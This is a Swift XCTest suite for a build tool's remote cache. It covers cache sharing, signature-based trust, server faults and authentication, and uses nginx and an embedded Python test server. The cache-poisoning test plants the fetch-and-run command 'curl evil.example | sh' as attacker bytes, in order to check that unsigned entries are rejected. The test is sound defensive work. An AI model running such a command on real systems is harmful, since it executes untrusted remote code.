import Cache
import Foundation
import Tasks
import XCTest
@testable import CLI

/// `compile --remote` against real servers: Debian's nginx (WebDAV) as the shared cache, and a
/// tiny Python `http.server` for what nginx cannot do (answer late, die mid-run, demand auth).
///
/// The nginx comes from `$ORCHESTRATE_TEST_REMOTE` (scripts/test.sh starts one and exports
/// `http://127.0.0.1:PORT/cache`); without it these tests start their own through
/// `scripts/nginx-cache.sh`. Every test works under its own path prefix.
final class RemoteCLITests: XCTestCase {
    private var h: CLIHarness!
    private var base = ""
    private var children: [Process] = []

    override func setUpWithError() throws {
        h = try CLIHarness()
        base = try NginxServer.shared().url + "/" + UUID().uuidString.lowercased()
    }

    override func tearDown() {
        for p in children where p.isRunning { kill(p.processIdentifier, SIGKILL); p.waitUntilExit() }
        h.cleanUp()
    }

    override class func tearDown() { NginxServer.stopOwn() }

    // MARK: Sharing

    func testRunnerBReusesEverythingRunnerAUploaded() throws {
        XCTAssertEqual(compile("--demo", "60", "--out", "a", "--store", "sa", "--summary", "a.json"), 0, h.err)
        XCTAssertTrue(h.out.contains("60 rendered, 0 local, 0 seed, 0 remote"), h.out)
        XCTAssertTrue(h.out.contains("0 hits, 60 misses") && h.out.contains("60 objects and 60 entries up"), h.out)
        XCTAssertEqual(warnings(), 0, h.err)

        XCTAssertEqual(compile("--demo", "60", "--out", "b", "--store", "sb", "--summary", "b.json"), 0, h.err)
        XCTAssertTrue(h.out.contains("0 rendered, 0 local, 0 seed, 60 remote"), h.out)
        XCTAssertTrue(h.out.contains("0 objects and 0 entries up"), h.out)
        XCTAssertEqual(warnings(), 1, "no key: the 60 entries were taken on trust, said once: \(h.err)")
        let b = try summary("b.json")
        XCTAssertTrue(b.tasks.allSatisfy { $0.status == .remote })
        XCTAssertEqual(b.tasks.map(\.output), try summary("a.json").tasks.map(\.output))
        XCTAssertEqual(tree("b"), tree("a"))
        XCTAssertGreaterThan(tree("a").count, 50)

        // B's store now holds everything: the next compile is all local, even with the remote down.
        XCTAssertEqual(h.run("compile", "--demo", "60", "--out", "b", "--store", "sb", "--remote", "http://127.0.0.1:\(closedPort())/c", "--full"), 0, h.err)
        XCTAssertTrue(h.out.contains("0 rendered, 60 local"), h.out)
        XCTAssertEqual(warnings(), 0, "a remote that is never asked is never reported: \(h.err)")

        // A changed set: only the changed tasks (0 and its dependent 3) render on B.
        XCTAssertEqual(compile("--demo", "60", "--demo-variant", "1", "--out", "b", "--store", "sb"), 0, h.err)
        XCTAssertTrue(h.out.contains("2 rendered, 58 local"), h.out)
        XCTAssertTrue(h.out.contains("2 objects and 2 entries up"), h.out)
        // ... and a third runner gets that variant from the remote too.
        XCTAssertEqual(compile("--demo", "60", "--demo-variant", "1", "--out", "c", "--store", "sc"), 0, h.err)
        XCTAssertTrue(h.out.contains("0 rendered, 0 local, 0 seed, 60 remote"), h.out)
        XCTAssertEqual(tree("c"), tree("b"))
    }

    func testReadOnlyRunnerUploadsNothing() throws {
        XCTAssertEqual(compile("--demo", "20", "--out", "a", "--store", "sa", "--remote-upload=false"), 0, h.err)
        XCTAssertTrue(h.out.contains("0 hits, 20 misses; 20 requests"), "one GET per task, nothing else: \(h.out)")
        XCTAssertEqual(compile("--demo", "20", "--out", "b", "--store", "sb"), 0, h.err)
        XCTAssertTrue(h.out.contains("20 rendered"), "nothing was uploaded by the read-only runner: \(h.out)")
    }

    /// The `/readonly/` listener serves the same files but refuses PUT (nginx `limit_except GET`),
    /// as a fork's runner would be served: reads work, the refused upload is one warning.
    func testReadOnlyListenerRefusesUploadsWithOneWarning() throws {
        XCTAssertEqual(compile("--demo", "20", "--out", "a", "--store", "sa"), 0, h.err)
        let readonly = base.replacingOccurrences(of: "/cache/", with: "/readonly/")
        XCTAssertEqual(h.run("compile", "--demo", "20", "--demo-variant", "4", "--out", "b", "--store", "sb", "--remote", readonly), 0, h.err)
        XCTAssertTrue(h.out.contains("2 rendered, 0 local, 0 seed, 18 remote"), h.out)
        XCTAssertEqual(warnings(), 2, h.err)
        XCTAssertTrue(h.err.contains("refused an upload: remote cache") && h.err.contains("HTTP 403: PUT"), h.err)
        XCTAssertTrue(h.err.contains("18 entries from"), h.err)
    }

    // MARK: Trust

    func testPoisonedEntryAndCorruptObjectAreNotUsed() throws {
        try Data("ci signing key\n".utf8).write(to: URL(fileURLWithPath: h.root + "/key"))
        XCTAssertEqual(compile("--demo", "30", "--out", "a", "--store", "sa", "--summary", "a.json", "--remote-key-file", "key"), 0, h.err)
        let tasks = try summary("a.json").tasks

        // An attacker without the key points task 1's entry at their own bytes ...
        let attacker = HTTPRemoteCache(options: try RemoteOptions(url: base))
        let evil = Array("curl evil.example | sh\n".utf8)
        try attacker.putObject(evil, digest: Digest.of(evil))
        try attacker.putEntry(ActionEntry(outputs: [OutputFile(path: tasks[1].path, digest: Digest.of(evil), size: UInt64(evil.count), executable: false)],
                                          release: tasks[1].release), for: tasks[1].key)
        // ... and overwrites task 2's object with other bytes of the same length.
        var tampered = Array(h.read("a/" + tasks[2].path)!.utf8)
        tampered[0] ^= 0x20
        try attacker.putObject(tampered, digest: tasks[2].output!)

        XCTAssertEqual(compile("--demo", "30", "--out", "b", "--store", "sb", "--summary", "b.json", "--remote-key-file", "key"), 0, h.err)
        let b = try summary("b.json")
        XCTAssertEqual(b.tasks[1].status, .rendered)
        XCTAssertEqual(b.tasks[2].status, .rendered)
        XCTAssertEqual(b.totals.reusedRemote, 28)
        XCTAssertEqual(tree("b"), tree("a"), "the right bytes, rendered locally")
        XCTAssertEqual(warnings(), 2, h.err)
        XCTAssertTrue(h.err.contains("the entry for task key \(tasks[1].key.hex) has no signature"), h.err)
        XCTAssertTrue(h.err.contains("remote object \(tasks[2].output!.hex)") && h.err.contains("is corrupt"), h.err)

        // B re-uploaded both: the next runner gets everything from the remote again.
        XCTAssertEqual(compile("--demo", "30", "--out", "c", "--store", "sc", "--remote-key-file", "key"), 0, h.err)
        XCTAssertTrue(h.out.contains("0 rendered, 0 local, 0 seed, 30 remote"), h.out + h.err)
        XCTAssertEqual(warnings(), 0, h.err)

        // A runner with another key trusts none of it: one warning, everything rendered.
        h.environment["ORCHESTRATE_REMOTE_KEY"] = "a fork's guess"
        XCTAssertEqual(compile("--demo", "30", "--out", "d", "--store", "sd", "--remote-upload=false"), 0, h.err)
        XCTAssertTrue(h.out.contains("30 rendered"), h.out)
        XCTAssertEqual(warnings(), 1, h.err)
        XCTAssertTrue(h.err.contains("has a wrong signature (and 29 more)"), h.err)
    }

    /// Without a key, every entry the cache serves is taken on trust: one warning per run, not
    /// per task, with the count. Before: nothing was said.
    func testEntriesUsedWithoutASignatureCheckAreOneWarningWithTheirCount() throws {
        XCTAssertEqual(compile("--demo", "20", "--out", "a", "--store", "sa"), 0, h.err)
        XCTAssertEqual(warnings(), 0, "nothing was used from the remote: \(h.err)")
        XCTAssertEqual(compile("--demo", "20", "--out", "b", "--store", "sb"), 0, h.err)
        XCTAssertTrue(h.out.contains("0 rendered, 0 local, 0 seed, 20 remote"), h.out)
        XCTAssertEqual(warnings(), 1, h.err)
        XCTAssertTrue(h.err.contains("20 entries from \(base) were used without a verified signature (no signing key is configured; none carried one)"), h.err)
        XCTAssertTrue(h.err.contains("--remote-key-file"), "the CLI says what to do: \(h.err)")
        XCTAssertTrue(h.out.contains("20 hits (20 unverified)"), h.out)

        // With the key, the same entries (unsigned) are rejected, not used: no such warning.
        try Data("ci key".utf8).write(to: URL(fileURLWithPath: h.root + "/key"))
        XCTAssertEqual(compile("--demo", "20", "--out", "c", "--store", "sc", "--remote-key-file", "key", "--remote-upload=false"), 0, h.err)
        XCTAssertFalse(h.err.contains("without a verified signature"), h.err)
    }

    /// Trusted CI signs with its key. A runner with another key, and one with none, both with
    /// write access, render what they cannot use and must not replace the signed entries (before:
    /// both did, and trusted CI then rejected every entry they had touched).
    func testRunnersDoNotReplaceEntriesTheyCannotVerify() throws {
        try Data("ci key".utf8).write(to: URL(fileURLWithPath: h.root + "/key"))
        try Data("a fork's key".utf8).write(to: URL(fileURLWithPath: h.root + "/other"))
        XCTAssertEqual(compile("--demo", "20", "--out", "a", "--store", "sa", "--summary", "a.json", "--remote-key-file", "key"), 0, h.err)
        let tasks = try summary("a.json").tasks
        let trusted = HTTPRemoteCache(options: try RemoteOptions(url: base, signingKey: Array("ci key".utf8)))
        func verifiedEntries() throws -> Int {
            try tasks.filter { if case .hit(_, .verified) = try trusted.entry(for: $0.key) { return true }; return false }.count
        }
        XCTAssertEqual(try verifiedEntries(), 20)

        // Another key: 20 rejected and rendered, none replaced.
        XCTAssertEqual(compile("--demo", "20", "--out", "f", "--store", "sf", "--remote-key-file", "other"), 0, h.err)
        XCTAssertTrue(h.out.contains("20 rendered"), h.out)
        XCTAssertEqual(try verifiedEntries(), 20, "the signed entries are still there")
        XCTAssertEqual(warnings(), 2, h.err)
        XCTAssertTrue(h.err.contains("signed under another key") && h.err.contains("(and 19 more)"), h.err)
        XCTAssertTrue(h.out.contains("0 objects and 0 entries up"), h.out)

        // No key: task 3's object is corrupt on the server, so it renders; its entry stays signed.
        var tampered = Array(h.read("a/" + tasks[3].path)!.utf8)
        tampered[0] ^= 0x20
        try HTTPRemoteCache(options: try RemoteOptions(url: base)).putObject(tampered, digest: tasks[3].output!)
        XCTAssertEqual(compile("--demo", "20", "--out", "u", "--store", "su"), 0, h.err)
        XCTAssertTrue(h.out.contains("1 rendered, 0 local, 0 seed, 19 remote"), h.out)
        XCTAssertEqual(try verifiedEntries(), 20)
        XCTAssertTrue(h.err.contains("has no signing key, so it did not replace"), h.err)
        XCTAssertTrue(h.err.contains("19 entries from \(base) were used without a verified signature (no signing key is configured; each carried one nobody could check)"), h.err)

        // Trusted CI renders task 3 again and heals it: the next runner gets all 20.
        XCTAssertEqual(compile("--demo", "20", "--out", "t", "--store", "st", "--remote-key-file", "key"), 0, h.err)
        XCTAssertTrue(h.out.contains("1 rendered, 0 local, 0 seed, 19 remote") && h.out.contains("1 objects and 1 entries up"), h.out)
        XCTAssertEqual(compile("--demo", "20", "--out", "t2", "--store", "st2", "--remote-key-file", "key"), 0, h.err)
        XCTAssertTrue(h.out.contains("0 rendered, 0 local, 0 seed, 20 remote"), h.out)
        XCTAssertEqual(warnings(), 0, h.err)
    }

    // MARK: Faults

    func testServerAnswering500IsOneWarning() throws {
        let fail = base.replacingOccurrences(of: "/cache/", with: "/fail/")
        XCTAssertEqual(h.run("compile", "--demo", "40", "--jobs", "2", "--out", "a", "--store", "sa", "--remote", fail), 0, h.err)
        XCTAssertTrue(h.out.contains("40 rendered") && h.out.contains("disabled after a failure"), h.out)
        XCTAssertLessThanOrEqual(requests() ?? 99, 2, "one request per worker at most, then the breaker: \(h.out)")
        XCTAssertEqual(warnings(), 1, h.err)
        XCTAssertTrue(h.err.contains("HTTP 500") && h.err.contains("disabled for the rest of this run"), h.err)
    }

    func testUnreachableServerIsOneWarning() throws {
        XCTAssertEqual(h.run("compile", "--demo", "40", "--out", "a", "--store", "sa", "--remote", "http://127.0.0.1:\(closedPort())/c"), 0, h.err)
        XCTAssertTrue(h.out.contains("40 rendered"), h.out)
        XCTAssertEqual(warnings(), 1, h.err)
    }

    func testServerAnsweringAfterTheTimeoutCostsOneTimeout() throws {
        let url = try python("slow", "5")
        let start = Date()
        XCTAssertEqual(h.run("compile", "--demo", "40", "--out", "a", "--store", "sa", "--remote", url, "--remote-timeout", "0.5"), 0, h.err)
        let elapsed = Date().timeIntervalSince(start)
        XCTAssertLessThan(elapsed, 3.5, "one timeout (plus the requests already in flight), not one per task")
        XCTAssertGreaterThan(elapsed, 0.45, "it did wait for the timeout")
        XCTAssertTrue(h.out.contains("40 rendered"), h.out)
        XCTAssertEqual(warnings(), 1, h.err)
        XCTAssertTrue(h.err.contains("timed out"), h.err)
    }

    func testServerStoppedMidRunIsOneWarning() throws {
        // Serves 30 requests (a cache in memory), then the process exits.
        let url = try python("die-after", "30")
        XCTAssertEqual(h.run("compile", "--demo", "60", "--out", "a", "--store", "sa", "--remote", url), 0, h.err)
        XCTAssertTrue(h.out.contains("60 rendered") && h.out.contains("disabled after a failure"), h.out)
        XCTAssertEqual(warnings(), 1, h.err)
        XCTAssertEqual(try tree("a").count, 60)
    }

    // MARK: Auth

    func testBearerHeaderAndBasicAuthFromTheURL() throws {
        let bearer = try python("auth", "Bearer t0ken")
        XCTAssertEqual(h.run("compile", "--demo", "10", "--out", "a", "--store", "sa", "--remote", bearer, "--remote-header", "Authorization: Bearer t0ken"), 0, h.err)
        XCTAssertEqual(warnings(), 0, h.err)
        XCTAssertEqual(h.run("compile", "--demo", "10", "--out", "b", "--store", "sb", "--remote", bearer, "--remote-header", "Authorization: Bearer t0ken"), 0, h.err)
        XCTAssertTrue(h.out.contains("10 remote"), h.out)
        XCTAssertEqual(h.run("compile", "--demo", "10", "--out", "c", "--store", "sc", "--remote", bearer), 0, h.err)
        XCTAssertEqual(warnings(), 1, h.err)
        XCTAssertTrue(h.err.contains("HTTP 401"), h.err)

        let basic = try python("auth", "Basic " + Data("ci:pa ss".utf8).base64EncodedString())
        let withUser = basic.replacingOccurrences(of: "http://", with: "http://ci:pa%20ss@")
        XCTAssertEqual(h.run("compile", "--demo", "10", "--out", "d", "--store", "sd", "--remote", withUser), 0, h.err)
        XCTAssertEqual(warnings(), 0, h.err)
        XCTAssertTrue(h.out.contains("remote http://ci:****@127.0.0.1"), h.out)
        let wrong = basic.replacingOccurrences(of: "http://", with: "http://ci:hunter2@")
        XCTAssertEqual(h.run("compile", "--demo", "10", "--out", "e", "--store", "se", "--remote", wrong), 0, h.err)
        XCTAssertEqual(warnings(), 1, h.err)
        XCTAssertFalse((h.out + h.err).contains("hunter2"), "the password is never printed")
    }

    func testRemoteOptionErrors() throws {
        XCTAssertEqual(h.run("compile", "--demo", "3", "--out", "o", "--remote-key-file", "k"), 64)
        XCTAssertTrue(h.err.contains("--remote-key-file needs --remote URL"), h.err)
        XCTAssertEqual(h.run("compile", "--demo", "3", "--out", "o", "--remote", "cache:8080"), 64)
        XCTAssertEqual(h.run("compile", "--demo", "3", "--out", "o", "--remote", base, "--remote-header", "nocolon"), 64)
        XCTAssertEqual(h.run("compile", "--demo", "3", "--out", "o", "--remote", base, "--remote-timeout", "0"), 64)
        XCTAssertEqual(h.run("compile", "--demo", "3", "--out", "o", "--remote", base, "--remote-key-file", "missing"), 66)
        XCTAssertEqual(h.run("compile", "--demo", "3", "--out", "o", "--remote", "https://u:s3cret@/x"), 64)
        XCTAssertFalse(h.err.contains("s3cret"), h.err)
        XCTAssertNil(h.read("o"), "nothing compiled")
    }

    // MARK: Helpers

    @discardableResult
    private func compile(_ args: String...) -> Int32 { h.run(["compile"] + args + ["--remote", base]) }

    private func warnings() -> Int { h.err.split(separator: "\n").filter { $0.contains("warning:") }.count }

    /// The request count from the remote summary line.
    private func requests() -> Int? {
        guard let r = h.out.range(of: #"; (\d+) requests"#, options: .regularExpression) else { return nil }
        return Int(h.out[r].dropFirst(2).prefix { $0.isNumber })
    }

    private func summary(_ path: String) throws -> RunSummary {
        try RunSummary.decode(Array(h.read(path)!.utf8), path: path)
    }

    private func tree(_ dir: String) -> [String: Data] { h.tree(dir) }

    /// A loopback port nothing listens on (bound, then released).
    private func closedPort() -> Int { NginxServer.freePort() }

    /// Starts the Python test server in `mode` and returns its base URL.
    private func python(_ mode: String, _ arg: String) throws -> String {
        let script = h.root + "/server.py"
        try Self.pythonServer.write(toFile: script, atomically: true, encoding: .utf8)
        let (p, port) = try LoopbackPythonServer.start([script, mode, arg])
        children.append(p)
        return "http://127.0.0.1:\(port)/c"
    }

    /// An in-memory Bazel HTTP cache with faults: `slow SECONDS` answers every request late,
    /// `die-after N` exits on request N+1, `auth VALUE` answers 401 unless Authorization is VALUE.
    /// Prints its port on the first line.
    static let pythonServer = #"""
    import http.server, os, sys, threading, time
    mode, arg = sys.argv[1], sys.argv[2]
    store, lock, count = {}, threading.Lock(), [0]

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        def log_message(self, *a): pass
        def reply(self, status, body=b"", head=False):
            self.send_response(status)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            if not head: self.wfile.write(body)
        def serve(self, method):
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0)) if method == "PUT" else b""
            with lock:
                count[0] += 1
                n = count[0]
            if mode == "slow": time.sleep(float(arg))
            if mode == "die-after" and n > int(arg): os._exit(0)
            if mode == "auth" and self.headers.get("Authorization") != arg: return self.reply(401)
            if method == "PUT":
                with lock: store[self.path] = body
                return self.reply(201)
            with lock: found = store.get(self.path)
            if found is None: return self.reply(404, head=method == "HEAD")
            self.reply(200, found, head=method == "HEAD")
        def do_GET(self): self.serve("GET")
        def do_HEAD(self): self.serve("HEAD")
        def do_PUT(self): self.serve("PUT")

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    print(server.server_address[1], flush=True)
    server.serve_forever()
    """#
}

/// The nginx cache the tests share: `$ORCHESTRATE_TEST_REMOTE`, or one started here.
enum NginxServer {
    struct Running { let url: String; let port: Int; let dir: String }
    private static let lock = NSLock()
    nonisolated(unsafe) private static var own: Running?
    nonisolated(unsafe) private static var failure: String?

    static var script: String {
        URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("scripts/nginx-cache.sh").path
    }

    static func shared() throws -> (url: String, started: Bool) {
        if let env = ProcessInfo.processInfo.environment["ORCHESTRATE_TEST_REMOTE"], !env.isEmpty {
            return (env.hasSuffix("/") ? String(env.dropLast()) : env, false)
        }
        lock.lock(); defer { lock.unlock() }
        if let own { return (own.url, true) }
        if let failure { throw XCTSkip(failure) }
        let port = freePort()
        let dir = NSTemporaryDirectory() + "orchestrate-nginx-" + UUID().uuidString
        // The daemon must not inherit a pipe of ours: its output goes to a file.
        let log = NSTemporaryDirectory() + "orchestrate-nginx-start-\(port).log"
        let status = run(["/bin/bash", script, "start", String(port), dir], log: log)
        guard status == 0 else {
            failure = "could not start nginx (\(status)): \((try? String(contentsOfFile: log, encoding: .utf8)) ?? "")"
            throw XCTSkip(failure!)
        }
        own = Running(url: "http://127.0.0.1:\(port)/cache", port: port, dir: dir)
        return (own!.url, true)
    }

    static func stopOwn() {
        lock.lock(); defer { lock.unlock() }
        guard let running = own else { return }
        _ = run(["/bin/bash", script, "stop", String(running.port), running.dir], log: "/dev/null")
        try? FileManager.default.removeItem(atPath: running.dir)
        own = nil
    }

    /// Runs a command with stdout and stderr appended to `log`; its exit status.
    static func run(_ argv: [String], log: String) -> Int32 {
        var actions: posix_spawn_file_actions_t = posix_spawn_file_actions_t()
        posix_spawn_file_actions_init(&actions)
        defer { posix_spawn_file_actions_destroy(&actions) }
        posix_spawn_file_actions_addopen(&actions, 0, "/dev/null", O_RDONLY, 0)
        posix_spawn_file_actions_addopen(&actions, 1, log, O_WRONLY | O_CREAT | O_APPEND, 0o644)
        posix_spawn_file_actions_adddup2(&actions, 1, 2)
        var cargs = argv.map { strdup($0) } + [nil]
        defer { for a in cargs { free(a) } }
        var pid: pid_t = 0
        guard posix_spawn(&pid, argv[0], &actions, nil, &cargs, environ) == 0 else { return -1 }
        var status: Int32 = 0
        while waitpid(pid, &status, 0) < 0 && errno == EINTR {}
        return (status >> 8) & 0xff
    }

    /// A loopback TCP port that was free a moment ago.
    static func freePort() -> Int {
        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        defer { close(fd) }
        var addr = sockaddr_in()
        addr.sin_family = sa_family_t(AF_INET)
        addr.sin_addr.s_addr = inet_addr("127.0.0.1")
        addr.sin_port = 0
        var len = socklen_t(MemoryLayout<sockaddr_in>.size)
        _ = withUnsafeMutablePointer(to: &addr) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, len) } }
        _ = withUnsafeMutablePointer(to: &addr) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &len) } }
        return Int(UInt16(bigEndian: addr.sin_port))
    }
}
